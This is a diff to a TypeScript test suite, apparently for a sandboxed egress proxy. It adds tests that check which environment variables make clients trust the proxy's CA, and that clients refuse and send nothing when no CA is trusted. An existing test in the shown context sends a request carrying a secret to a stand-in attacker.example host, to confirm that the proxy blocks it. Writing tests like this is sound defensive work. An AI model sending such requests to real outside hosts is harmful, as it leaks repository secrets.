@@ -24,6 +24,8 @@ export type Client = {
   readonly anonymous?: boolean;
   /** Asks for a tunnel even where the URL is http://. Only TLS may be spoken inside one, so that is refused. */
   readonly tunnelsPlain?: boolean;
+  /** Every variable that makes it trust the CA, each enough alone, and what it says where none is set. */
+  readonly trust?: { readonly variables: readonly string[]; readonly refused: RegExp };
   readonly shows: {
     /** Of a CONNECT that was refused with `host-not-allowed`. */
     readonly refusedHost: RegExp;
@@ -36,7 +38,7 @@ export const SECRET = "the-code-of-this-repository";
 export const PAYLOAD = "the download\n";
 
 export function describeClient(client: Client): void {
-  const { name, programs, prepare, request, anonymous, tunnelsPlain, shows } = client;
+  const { name, programs, prepare, request, anonymous, tunnelsPlain, trust, shows } = client;
   describeWith(name, programs, () => {
     const open: AsyncDisposable[] = [];
     let origin: RecordingOrigin;
@@ -119,6 +121,29 @@ export function describeClient(client: Client): void {
       });
     }
 
+    if (trust !== undefined) {
+      const { variables, refused } = trust;
+      const runWithout = (absent: readonly string[]): Promise<Ran> =>
+        sandbox.run([
+          "env",
+          ...absent.flatMap((variable) => ["-u", variable]),
+          ...request("GET", `https://origin.test:${origin.port}/trusted`, sandbox),
+        ]);
+
+      test.each(variables)("%s alone makes it trust the CA", async (variable) => {
+        const ran = await runWithout(variables.filter((other) => other !== variable));
+        expect(ran.stdout, ran.seen).toContain(PAYLOAD);
+      });
+
+      test("without the CA it refuses what the proxy shows, and nothing is sent", async () => {
+        const ran = await runWithout(variables);
+        expect(ran.seen).toMatch(refused);
+        expect(ran.code).not.toBe(0);
+        expect(origin.received).toBe("");
+        await proxy.recorded(handshakeFailed("origin.test"));
+      });
+    }
+
     test("a refused host gets nothing, and the person sees why", async () => {
       const ran = await run("GET", `https://attacker.example:${attacker.port}/?${SECRET}`);
       expect(ran.seen).toMatch(shows.refusedHost);
@@ -159,6 +184,12 @@ export function completed(path: string): (records: readonly AuditRecord[]) => bo
     const ids = new Set(decisions(records, path).map(({ id }) => id));
     return records.some(({ type, id }) => type === "completion" && ids.has(id));
   };
+}
+
+/** Whether somebody did not take the leaf for this host. */
+export function handshakeFailed(host: string): (records: readonly AuditRecord[]) => boolean {
+  return (records) =>
+    records.some((record) => record["host"] === host && record["reason"] === "handshake-failed");
 }
 
 export async function temporary(prefix: string): Promise<AsyncDisposable & { readonly path: string }> {
